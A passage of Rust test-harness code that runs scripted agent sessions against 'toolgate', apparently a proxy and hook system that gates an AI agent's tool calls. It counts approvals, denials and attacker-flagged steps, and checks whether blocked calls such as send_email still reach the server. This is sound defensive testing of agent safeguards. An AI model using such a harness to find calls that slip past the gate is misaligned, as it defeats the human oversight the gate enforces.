        (Some(p), _, _) | (None, Some(p), _) => p.clone(),
        (None, None, Some(rel)) => std::fs::read_to_string(env.dir.join(rel))
            .unwrap_or_else(|e| panic!("policy `{rel}`: {e}")),
        (None, None, None) => panic!("case `{}`: no policy", case.name),
    };
    std::fs::write(&policy_path, policy).unwrap();
    let deadline = Instant::now() + SESSION_TIMEOUT;
    let mut result = SessionResult {
        failures: Vec::new(),
        steps: Vec::new(),
        record: Vec::new(),
        approvals: 0,
        denied: 0,
        refused: 0,
    };
    let mut server_args = vec!["--kind".to_owned(), file.kind.clone()];
    let server_spec = file.server.as_ref().map(|rel| {
        let path = env.dir.join(rel);
        assert!(path.is_file(), "server spec `{}` not found", path.display());
        path.to_string_lossy().into_owned()
    });
    if let Some(path) = &server_spec {
        server_args.extend(["--spec".to_owned(), path.clone()]);
    }
    server_args.extend(spec.server_args.iter().cloned());
    let mut expected_record: Vec<Value> = Vec::new();
    // A session with hook steps: its hooks start the broker (a `SessionStart` event first,
    // as the client sends one), and the proxy joins the same agent session when the first
    // MCP step needs it.
    for (n, step) in spec.steps.iter().enumerate() {
        step.check(&case.name, n + 1);
    }
    let hooked = spec.steps.iter().any(Step::is_hook);
    check_order(&case.name, &spec.steps);
    let hooks = hooked.then(|| Hooks {
        toolgate: env.toolgate,
        sb: &sb,
        policy: policy_path.clone(),
    });
    let agent = hooked.then_some(AGENT_SESSION);
    if let Some(h) = &hooks {
        match h.event("SessionStart", json!({"source": "startup"}), deadline) {
            Ok(r) if r.code == Some(0) => {}
            Ok(r) => {
                result.failures.push(format!(
                    "SessionStart: exit {:?} ({})",
                    r.code,
                    r.stderr.trim()
                ));
                return result;
            }
            Err(e) => {
                result.failures.push(format!("SessionStart: {e}"));
                return result;
            }
        }
    }
    let mut client: Option<Client> = None;
    if !hooked {
        client = match start(
            env,
            &sb,
            &policy_path,
            &server_args,
            agent,
            !spec.no_initial_list,
            deadline,
        ) {
            Ok(c) => Some(c),
            Err(e) => {
                result.failures.push(format!("start: {e}"));
                return result;
            }
        };
    }
    for (n, step) in spec.steps.iter().enumerate() {
        let at = n + 1;
        if let Some(h) = &hooks
            && step.is_hook()
        {
            if let Err(e) = hook_step(h, step, at, deadline, &mut result) {
                result.failures.push(e);
                return result;
            }
            continue;
        }
        if let Some(args) = &step.restart {
            if let Some(c) = client.take() {
                c.shutdown();
            }
            let mut a = vec!["--kind".to_owned(), file.kind.clone()];
            if let Some(path) = &server_spec {
                a.extend(["--spec".to_owned(), path.clone()]);
            }
            a.extend(args.iter().cloned());
            client = match start(env, &sb, &policy_path, &a, agent, true, deadline) {
                Ok(c) => Some(c),
                Err(e) => {
                    result.failures.push(format!("step {at}: restart: {e}"));
                    return result;
                }
            };
            continue;
        }
        let client = match &mut client {
            Some(c) => c,
            None => match start(
                env,
                &sb,
                &policy_path,
                &server_args,
                agent,
                !spec.no_initial_list,
                deadline,
            ) {
                Ok(c) => client.insert(c),
                Err(e) => {
                    result.failures.push(format!("step {at}: start: {e}"));
                    return result;
                }
            },
        };
        if step.list {
            if let Err(e) = client.request("tools/list", json!({}), deadline, None) {
                result.failures.push(format!("step {at}: tools/list: {e}"));
                return result;
            }
            continue;
        }
        if let Some(what) = &step.wait {
            let method = format!("notifications/tools/{what}");
            let listed = client.wait_notification(&method, deadline).and_then(|()| {
                client
                    .request("tools/list", json!({}), deadline, None)
                    .map(|_| ())
            });
            if let Err(e) = listed {
                result.failures.push(format!("step {at}: wait {what}: {e}"));
                return result;
            }
            continue;
        }
        let (method, params, shown, record) = if let Some(tool) = &step.call {
            let args = sb.expand(&step.args.clone().unwrap_or(json!({})));
            (
                "tools/call",
                json!({"name": tool, "arguments": args}),
                format!("{tool} {args}"),
                json!({"method": "tools/call", "name": tool, "arguments": args}),
            )
        } else if let Some(uri) = &step.read_resource {
            let uri = &sb.expand_str(uri);
            (
                "resources/read",
                json!({"uri": uri}),
                format!("resources/read {uri}"),
                json!({"method": "resources/read", "uri": uri}),
            )
        } else {
            panic!("case `{}` step {at}: nothing to do", case.name);
        };
        // A hook step next: wait (bounded) until what this call's output taught the proxy has
        // reached the broker, as it would have by the time the model acts on the output.
        let shared_before = match (&hooks, spec.steps.get(n + 1)) {
            (Some(h), Some(next)) if next.is_hook() => Some((h, h.shared())),
            _ => None,
        };
        for _ in 0..step.repeat.unwrap_or(1) {
            let (response, prompts) =
                match client.request(method, params.clone(), deadline, step.human) {
                    Ok(r) => r,
                    Err(e) => {
                        result.failures.push(format!("step {at} `{shown}`: {e}"));
                        return result;
                    }
                };
            result.approvals += prompts;
            let (seen, reached) = classify(&response, prompts);
            if seen == Verdict::Deny {
                result.denied += 1;
            }
            if seen == Verdict::Ask && !reached {
                result.refused += 1;
            }
            let expect = step.expect.unwrap_or(Verdict::Allow);
            let wants_reach = match expect {
                Verdict::Allow => true,
                Verdict::Ask => step.human.is_some_and(|h| h != HumanAnswer::Deny),
                Verdict::Deny | Verdict::Error => false,
            };
            if wants_reach {
                expected_record.push(record.clone());
            }
            let asked = (prompts > 0).then(|| client.last_prompt.clone()).flatten();
            // Why: an approval prompt's message, else the first line of toolgate's answer.
            let why = || {
                asked
                    .as_deref()
                    .or_else(|| {
                        response
                            .pointer("/result/content/0/text")
                            .or_else(|| response.pointer("/error/message"))
                            .and_then(Value::as_str)
                    })
                    .unwrap_or("")
                    .lines()
                    .next()
                    .unwrap_or("")
                    .chars()
                    .take(240)
                    .collect::<String>()
            };
            result.steps.push(StepOutcome {
                at,
                shown: shown.clone(),
                attacker: step.attacker,
                verdict: seen,
                reached,
                why: if seen == Verdict::Allow {
                    String::new()
                } else {
                    why()
                },
                sent: Some(record.clone()),
            });
            if seen != expect || reached != wants_reach {
                result.failures.push(format!(
                    "step {at} `{shown}`: expected {}, got {}{} ({})",
                    label(expect),
                    label(seen),
                    if reached { " (reached the server)" } else { "" },
                    why()
                ));
            }
        }
        if let Some((h, before)) = shared_before {
            h.wait_shared(before);
        }
    }
    if let Some(c) = client {
        c.shutdown();
    }
    drop(hooks);
    let record: Vec<Value> = std::fs::read_to_string(sb.base.join("record.jsonl"))
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    // A call the client saw as blocked that the server received anyway counts as reached.
    for outcome in &mut result.steps {
        if !outcome.reached && outcome.shown_in(&record) {
            outcome.reached = true;
        }
    }
    result.record = record.clone();
    match &spec.upstream {
        Some(names) => {
            let seen: Vec<String> = record.iter().map(record_name).collect();
            if &seen != names {
                result
                    .failures
                    .push(format!("upstream saw {seen:?}, expected exactly {names:?}"));
            }
        }
        None => {
            if record != expected_record {
                let seen: Vec<String> = record.iter().map(record_name).collect();
                let want: Vec<String> = expected_record.iter().map(record_name).collect();
                result.failures.push(format!(
                    "upstream saw {seen:?}, expected exactly {want:?} (with the same arguments)"
                ));
            }
        }
    }
    result
}

/// One hook step: a prompt (`UserPromptSubmit`), or a built-in tool call (`PreToolUse`,
/// checked against `expect`; an ask is one approval, answered by `human`) followed, when the
/// tool runs and the step has an `output`, by `PostToolUse`. `Err`: the session cannot go on.
fn hook_step(
    hooks: &Hooks<'_>,
    step: &Step,
    at: usize,
    deadline: Instant,
    result: &mut SessionResult,
) -> Result<(), String> {
    if let Some(text) = &step.prompt {
        let text = hooks.sb.expand_str(text);
        hooks.record_prompt(&text)?;
        let r = hooks.event("UserPromptSubmit", json!({"prompt": text}), deadline)?;
        if r.code != Some(0) || !r.stdout.trim().is_empty() {
            result
                .failures
                .push(format!("step {at} prompt: not accepted ({})", r.why()));
        }
        return Ok(());
    }
    let tool = step.builtin.as_deref().unwrap_or_default();
    let args = hooks.sb.expand(&step.args.clone().unwrap_or(json!({})));
    let shown = format!("{tool} {args}");
    for _ in 0..step.repeat.unwrap_or(1) {
        let r = hooks.event(
            "PreToolUse",
            json!({"tool_name": tool, "tool_input": args, "tool_use_id": format!("toolu_{at}")}),
            deadline,
        )?;
        let seen = r.verdict();
        let answer = step.human.unwrap_or(HumanAnswer::Deny);
        let runs = match seen {
            Verdict::Allow => true,
            Verdict::Ask => {
                result.approvals += 1;
                if answer == HumanAnswer::Deny {
                    result.refused += 1;
                }
                answer != HumanAnswer::Deny
            }
            Verdict::Deny => {
                result.denied += 1;
                false
            }
            Verdict::Error => false,
        };
        let expect = step.expect.unwrap_or(Verdict::Allow);
        result.steps.push(StepOutcome {
            at,
            shown: format!("{shown} (hook)"),
            attacker: step.attacker,
            verdict: seen,
            reached: runs,
            why: if seen == Verdict::Allow {
                String::new()
            } else {
                r.why()
            },
            sent: None,
        });
        if seen != expect {
            result.failures.push(format!(
                "step {at} `{shown}` (hook): expected {}, got {} ({})",
                label(expect),
                label(seen),
                r.why()
            ));
        }
        if let (true, Some(output)) = (runs, &step.output) {
            let response = tool_response(tool, &args, &hooks.sb.expand_str(output));
            let r = hooks.event(
                "PostToolUse",
                json!({"tool_name": tool, "tool_input": args, "tool_response": response,
                       "tool_use_id": format!("toolu_{at}")}),
                deadline,
            )?;
            if r.code != Some(0) || !r.stdout.trim().is_empty() {
                result.failures.push(format!(
                    "step {at} `{shown}` (PostToolUse): not accepted ({})",
                    r.why()
                ));
            }
        }
    }
    Ok(())
}

fn record_name(v: &Value) -> String {
    match v.get("method").and_then(Value::as_str) {
        Some("resources/read") => format!(
            "resources/read {}",
            v.get("uri").and_then(Value::as_str).unwrap_or("")
        ),
        _ => v
            .get("name")
            .and_then(Value::as_str)
            .unwrap_or("")
            .to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn steps(yaml: &str) -> Vec<Step> {
        serde_saphyr::from_str(yaml).unwrap()
    }

    fn panics(f: impl FnOnce() + std::panic::UnwindSafe) -> String {
        let err = std::panic::catch_unwind(f).expect_err("expected a panic");
        err.downcast_ref::<String>().cloned().unwrap_or_default()
    }

    #[test]
    fn hook_steps_parse_strictly() {
        let s = steps(
            "- {prompt: \"reply to bob@partner.example\"}\n- {builtin: Bash, args: {command: ls}, expect: ask, human: allow_once, output: x}\n",
        );
        assert!(s.iter().all(Step::is_hook));
        assert!(s[0].teaches() && s[1].teaches());
        s[0].check("c", 1);
        s[1].check("c", 2);
        assert!(serde_saphyr::from_str::<Vec<Step>>("- {builtin: Bash, stdout: x}\n").is_err());
        let both = steps("- {prompt: x, call: send_email}\n");
        assert!(panics(move || both[0].check("c", 1)).contains("one of"));
        let output = steps("- {call: read_email, output: x}\n");
        assert!(
            panics(move || output[0].check("c", 1)).contains("`output` does not go with `call`")
        );
        let expect = steps("- {prompt: x, expect: deny}\n");
        assert!(panics(move || expect[0].check("c", 1)).contains("`expect`"));
    }

    #[test]
    fn no_mcp_step_may_follow_what_a_hook_taught_a_running_proxy() {
        // Before the proxy starts (its first MCP step): fine.
        check_order(
            "c",
            &steps(
                "- {prompt: x}\n- {builtin: WebFetch, args: {url: u}, output: o}\n- {call: send_email}\n- {builtin: Bash, args: {command: ls}}\n",
            ),
        );
        // A decision only (no output) after the proxy started: fine.
        check_order(
            "c",
            &steps(
                "- {call: read_email}\n- {builtin: Bash, args: {command: ls}}\n- {call: send_email}\n",
            ),
        );
        let late =
            steps("- {call: read_email}\n- {prompt: x}\n- {list: true}\n- {call: send_email}\n");
        let msg = panics(move || check_order("c", &late));
        assert!(msg.contains("step 3 (an MCP step) follows step 2"), "{msg}");
    }
}
